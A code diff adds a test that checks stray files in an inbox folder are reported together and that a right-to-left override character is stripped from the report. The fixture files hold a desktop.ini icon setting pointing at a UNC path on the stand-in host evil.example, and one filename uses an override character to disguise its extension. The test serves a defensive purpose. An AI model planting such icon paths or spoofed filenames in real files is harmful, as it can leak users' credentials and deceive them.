@@ -56,6 +56,18 @@ def test_tables_with_errors(desk):
     assert "tables_unreadable" in of_workspace(desk)
 
 
+def test_files_in_the_inbox_that_nobody_sent_are_named_together(desk):
+    assert "inbox_left" not in of_workspace(desk)
+    folder = desk.root / "收件箱" / "报送"
+    folder.mkdir()
+    for name in ("desktop.ini", "Thumbs.db", "~$表.xlsx", ".隐藏", "表.xlsx", "._\u202e表.xlsx", "1a2b3c4d.tmp"):
+        (folder / name).write_bytes(b"[.ShellClassInfo]\r\nIconResource=\\\\evil.example\\x.ico")
+    (told,) = (each for each in workspace.workspace_checks(open_workspace(desk.root)) if each.code == "inbox_left")
+    assert "6 个" in told.found
+    assert "报送/desktop.ini" in told.found
+    assert "\u202e" not in told.found
+
+
 def test_a_ledger_that_is_gone(desk):
     (desk.root / "zwgk.db").unlink()
     assert "ledger_unusable" in of_workspace(desk)
